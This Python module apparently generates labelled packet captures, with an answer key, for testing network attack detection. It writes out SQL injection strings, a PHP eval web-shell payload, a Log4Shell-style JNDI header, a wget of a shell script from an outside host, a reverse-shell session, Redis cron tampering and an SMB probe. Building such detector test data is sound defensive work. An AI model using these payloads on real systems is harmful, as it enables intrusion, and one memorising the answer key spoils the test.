"""Captures: a port scan, DNS tunnels, attacks in HTTP, a host that was taken over, and an ordinary hour."""
import base64
import socket
from urllib.parse import quote

from common import after, at
from web_ordinary import AGENTS, PAGES, SEARCHES
from wire import Capture

RESOLVER = "10.20.0.53"
PORTAL = "10.20.0.10"
NAMES = ["congdichvu.example.org", "mail.example.org", "www.example.com", "cdn.example.net", "time.example.org", "login.example.com",
         "vanban.example.org", "fonts.example.net", "update.example.com", "soyte.example.org"]


def request(target, host="congdichvu.example.org", method="GET", agent=AGENTS[0], headers=(), body=b""):
    lines = ["%s %s HTTP/1.1" % (method, target), "Host: " + host, "User-Agent: " + agent, "Accept: */*", *headers]
    if body:
        lines += ["Content-Type: application/x-www-form-urlencoded", "Content-Length: %d" % len(body)]
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def response(status="200 OK", body=b"<!doctype html><title>C\xe1\xbb\x95ng d\xe1\xbb\x8bch v\xe1\xbb\xa5 c\xc3\xb4ng</title>"):
    head = "HTTP/1.1 %s\r\nServer: nginx\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: %d\r\n\r\n" % (status, len(body))
    return head.encode() + body


def ordinary(capture, hour=9, visits=70):
    pick = capture.random
    for _ in range(visits):
        moment = at(hour, pick.randrange(58), pick.randrange(60), pick.randrange(1000))
        client = "10.20.%d.%d" % (pick.randrange(1, 4), pick.randrange(20, 90))
        capture.dns(moment, client, RESOLVER, pick.choice(NAMES), pick.choice([1, 1, 1, 28, 65]) if pick.random() < 0.2 else 1,
                    socket.inet_aton("198.51.100.%d" % pick.randrange(1, 250)) if pick.random() < 0.95 else None)
        kind = pick.random()
        if kind < 0.5:
            target = pick.choice(PAGES) if pick.random() < 0.6 else "/tim-kiem?tu-khoa=" + quote(pick.choice(SEARCHES))
            turns = [(True, request(target, agent=pick.choice(AGENTS))), (False, response())]
            if pick.random() < 0.5:
                turns += [(True, request("/css/main.css")), (False, response(body=b"body{margin:0}" * 200))]
            capture.dialogue(after(moment, 0.05), client, PORTAL, 80, turns)
        elif kind < 0.65:
            form = "ho_ten=%s&noi_dung=%s" % (quote("Trần Văn Bình"), quote("Xin cấp lại bản sao; select cơ quan 'union' giúp tôi"))
            capture.dialogue(after(moment, 0.05), client, PORTAL, 80, [
                (True, request("/dich-vu-cong/nop-ho-so", method="POST", body=form.encode())), (False, response("302 Found", b""))])
    for number in range(6):  # what a mail server and a content network ask for
        capture.dns(at(hour, number * 9, 30), "10.20.0.25", RESOLVER, "k%d._domainkey.example.com" % number, 16, b"\x08v=DKIM1;")
        capture.dns(at(hour, number * 9, 31), "10.20.1.40", RESOLVER, "d%d8xk2m4qv0z7w.cloudfront.net" % number, 1, b"\xc6\x33\x64\x07")
        capture.dns(at(hour, number * 9, 32), "10.20.1.40", RESOLVER, "%d.1.20.10.in-addr.arpa" % number, 12)


def port_scan(answers):
    capture = Capture("attacks/port-scan.pcap")
    ordinary(capture, 14, 25)
    pick, moment = capture.random, at(14, 20, 3, 210)
    first = moment
    ports = pick.sample(range(1, 1024), 120)
    for port in ports:
        capture.attempt(moment, "203.0.113.73", PORTAL, port, 0 if pick.random() < 0.3 else 20)
        last, moment = moment, after(moment, pick.randrange(20, 90) / 1000)
    answers.add(capture.path, "port_scan", "203.0.113.73", first, last)
    capture.write()


def dns_tunnel(answers):
    capture = Capture("attacks/dns-tunnel.pcap")
    ordinary(capture, 3, 30)
    pick, moment = capture.random, at(3, 10, 0, 125)
    first = moment
    for number in range(160):
        data = base64.b32encode(pick.randbytes(40)).decode().lower().rstrip("=")
        name = "%s.%s.t.example.net" % (data[:50], data[50:])
        capture.dns(moment, "10.20.3.15", RESOLVER, name, 16, b"\x20" + pick.randbytes(16).hex().encode())
        last, moment = moment, after(moment, pick.randrange(300, 2500) / 1000)
    answers.add(capture.path, "dns_tunnel", "10.20.3.15", first, last)
    moment = first = at(3, 4, 7)
    for number in range(130):
        name = "%s.%04x.example.com" % (base64.b32encode(pick.randbytes(25)).decode().lower(), number)
        capture.dns(moment, "10.20.3.18", RESOLVER, name, 1, b"\x0a\x01\x02\x03")
        last, moment = moment, after(moment, pick.randrange(60, 110))
    answers.add(capture.path, "dns_tunnel_slow", "10.20.3.18", first, last)
    capture.write()


def http_attacks(answers):
    capture = Capture("attacks/http-attacks.pcapng")
    ordinary(capture, 16, 40)

    def attack(rule, address, moment, requests):
        first = None
        for data in requests:
            sent = after(moment, 0.06)
            first = first or sent
            capture.dialogue(moment, address, PORTAL, 80, [(True, data), (False, response("500 Internal Server Error", b"Error"))])
            moment = after(moment, capture.random.randrange(3, 15))
        answers.add(capture.path, rule, address, first, sent)

    attack("web_sql_injection", "203.0.113.81", at(16, 5, 0), [
        request("/tra-cuu?ma=" + quote(value)) for value in ("1' OR 1=1-- -", "1' UNION SELECT NULL,user()-- -")])
    attack("1:9000001", "203.0.113.82", at(16, 12, 0), [
        request("/tra-cuu", method="POST", body=("ma=" + quote("1' UNION ALL SELECT %d,user()-- -" % number)).encode()) for number in (1, 2)])
    attack("1:9000002", "203.0.113.83", at(16, 20, 0), [
        request("/uploads/anh.html", method="POST", body=b"z0=eval(base64_decode($_POST[z1]));&z1=ZWNobyAxOw%3D%3D")])
    attack("1:9000003", "203.0.113.84", at(16, 31, 0), [
        request("/api/v1/ho-so", headers=["X-Api-Version: ${jndi:ldap://203.0.113.84:1389/nightjar}"])])
    capture.write()


def taken_over(answers):
    capture = Capture("attacks/taken-over.pcap")
    ordinary(capture, 20, 20)
    host = "10.20.5.44"
    moment = at(20, 14, 0)
    first = after(moment, 0.06)
    capture.dialogue(moment, host, "203.0.113.91", 80, [
        (True, request("/x.sh", "203.0.113.91", agent="Wget/1.21.3")), (False, response(body=b"#!/bin/sh\necho nightjar\n"))])
    capture.dialogue(at(20, 14, 30), host, "203.0.113.91", 4444, [
        (True, b"bash: cannot set terminal process group (811): Inappropriate ioctl for device\nbash: no job control in this shell\n"),
        (True, b"www-data@app-01:/srv$ "), (False, b"id\n"), (True, b"uid=33(www-data) gid=33(www-data)\nwww-data@app-01:/srv$ ")])
    moment = at(20, 16, 0)
    capture.dialogue(moment, host, "203.0.113.92", 3333, [
        (True, b'{"id":1,"method":"mining.subscribe","params":["nightjar/1.0"]}\n'), (False, b'{"id":1,"result":[],"error":null}\n')])
    answers.add(capture.path, "host_taken_over", host, first, after(moment, 0.06))

    moment = at(20, 30, 0)
    capture.dialogue(moment, "203.0.113.93", "10.20.5.60", 6379, [
        (True, b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$22\r\n/var/spool/cron/crontab\r\n"), (False, b"+OK\r\n")])
    answers.add(capture.path, "1:9000007", "203.0.113.93", after(moment, 0.06), after(moment, 0.06))

    moment = at(20, 40, 0)
    head = b"\xffSMB\x32" + b"\0" * 4 + b"\x18\x07\xc0" + b"\0" * 12 + b"\0\x08\xff\xfe\0\x08\x41\0"
    words = b"\x0f\x0c\0\0\x10\x01\0\0\0\0\0\0\0\xa6\xd9\xa4\0\0\0\x0c\0\x42\0\0\0\x4e\0\x01\0\x0e\0\x0d\0\0" + b"\0" * 12
    data = head + words
    capture.dialogue(moment, "10.20.5.46", "10.20.5.61", 445, [
        (True, b"\0" + len(data).to_bytes(3, "big") + data), (False, b"\0\0\0\x23\xffSMB\x32\x02\0\0\xc0" + b"\0" * 27)])
    answers.add(capture.path, "1:9000008", "10.20.5.46", after(moment, 0.06), after(moment, 0.06))
    capture.write()


def make(answers):
    capture = Capture("ordinary/office.pcap")
    ordinary(capture, 9, 160)
    capture.write()
    for maker in (port_scan, dns_tunnel, http_attacks, taken_over):
        maker(answers)
